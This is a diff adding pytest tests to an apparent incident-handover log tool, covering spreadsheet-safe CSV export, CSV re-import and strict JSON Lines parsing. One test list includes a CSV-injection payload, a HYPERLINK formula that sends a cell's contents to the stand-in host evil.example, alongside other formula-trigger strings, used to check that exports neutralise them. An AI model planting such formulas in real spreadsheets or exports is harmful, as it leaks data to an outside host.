@@ -185,3 +185,104 @@ def test_the_format_doc_checks_an_export_without_leaflet(log, tmp_path, monkeypa
     exec(snippet, {})
     head = log.run("log", "verify").stdout.split()[-1]
     assert printed.getvalue().strip() == f"ok, head {head}"
+
+
+# --- spreadsheet-safe CSV, read back exactly ------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "@SUM(A1:A9)", "+32 78 05",
+            "-2+3", "'quoted already", "＝１＋１", "＠home", "plain words"]
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(log, tmp_path):
+    pattern_ws = tmp_path / "ws"
+    from .conftest import make_workspace
+
+    make_workspace(pattern_ws, pattern=r"^[^\s].{0,39}$")
+    for note in FORMULAS:
+        result = log.run("--workspace", str(pattern_ws), "handover", *_refused(note),
+                         "--case-ref", "=1+1" if note.startswith("=") else "-A1")
+        assert result.exit_code == 0, result.output
+    result = log.run("log", "export", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    notes = [row["not_given_note"] for row in rows]
+    assert notes[:7] == ["'" + note for note in FORMULAS[:7]]
+    assert notes[7] == "plain words"
+    assert {row["case_ref"] for row in rows} == {"'=1+1", "'-A1"}
+    for row in rows:  # no cell a spreadsheet evaluates
+        assert not any(cell[:1] in "=+-@\t\r＝＋－＠" for cell in row.values() if cell)
+
+
+def _refused(note: str) -> list[str]:
+    from .conftest import GOOD, options
+
+    fields = dict(GOOD, leaflet="refused", **{"leaflet-language": None, "note": note})
+    fields["occurred-at"] = GOOD["occurred-at"]
+    return options(fields)
+
+
+def test_a_csv_export_imports_back_unchanged(log, other_db_url, tmp_path):
+    from .conftest import make_workspace
+
+    ws = make_workspace(tmp_path / "ws", pattern=r"^[^\s].{0,39}$")
+    for note in FORMULAS:
+        assert log.run("--workspace", str(ws), "handover", *_refused(note),
+                       "--case-ref", "@ref").exit_code == 0
+    log.handover(person_language=["ar-MA", "fr"], leaflet_language="fr",
+                 foreigners_dept_informed=True)
+    path = tmp_path / "log.csv"
+    assert log.run("log", "export", "--format", "csv", "--with-chain", "-o",
+                   str(path)).exit_code == 0
+    central = Log(other_db_url)
+    result = central.run("--workspace", str(ws), "log", "import", str(path))
+    assert result.exit_code == 0, result.output
+    assert "imported 9 records" in result.stderr
+    assert central.run("log", "export").stdout == log.run("log", "export").stdout
+    again = central.run("--workspace", str(ws), "log", "import", "--format", "csv", "-",
+                        input=path.read_text(encoding="utf-8"))
+    assert again.exit_code == 0 and "9 already present" in again.stderr
+
+
+def test_a_csv_with_another_header_is_refused(log, tmp_path):
+    path = tmp_path / "sheet.csv"
+    path.write_text("id,name\n1,Jan\n", encoding="utf-8")
+    result = log.run("log", "import", str(path))
+    assert result.exit_code == 2
+    assert f"{path}:1: the header is not the log's: column 'name'" in result.output
+    assert log.count() == 0
+
+
+# --- JSON Lines: split on "\n" only, one object per line ------------------------------------
+
+def test_a_line_separator_inside_a_string_does_not_split_the_line(log, tmp_path):
+    """JSON writes U+2028 as itself; splitlines() would cut the line there and report
+    "not JSON" on two half lines. The line is one line, and its note is refused by name."""
+    path = tmp_path / "station.jsonl"
+    bad = record(leaflet="refused", leaflet_language=None, leaflet_edition=None,
+                 not_given_note="later\u2028today")
+    path.write_text(json.dumps(record()) + "\n" + json.dumps(bad, ensure_ascii=False) + "\n"
+                    + json.dumps(record()) + "\r\n", encoding="utf-8")
+    result = log.run("log", "import", str(path))
+    assert result.exit_code == 2
+    assert f"{path}:2: field 'not_given_note'" in result.output and "U+2028" in result.output
+    assert "1 bad line(s) (2)" in result.output
+
+
+def test_a_repeated_field_is_refused(log, tmp_path):
+    path = tmp_path / "station.jsonl"
+    line = json.dumps(record())[:-1] + ', "unit": "PZ-1"}'
+    path.write_text(line + "\n", encoding="utf-8")
+    result = log.run("log", "import", str(path))
+    assert result.exit_code == 2
+    assert "field 'unit' appears twice" in result.output
+
+
+def test_bytes_that_are_not_utf8_are_named_by_line(log, tmp_path):
+    path = tmp_path / "station.jsonl"
+    path.write_bytes(json.dumps(record()).encode() + b"\n" + b'{"unit": "\xff"}\n')
+    result = log.run("log", "import", str(path))
+    assert result.exit_code == 2
+    assert f"{path}:2: not UTF-8" in result.output
+    result = log.run("log", "import", "-", input=b"\xfe\xff{}\n")
+    assert result.exit_code == 2 and "-:1: not UTF-8" in result.output
+    assert log.count() == 0
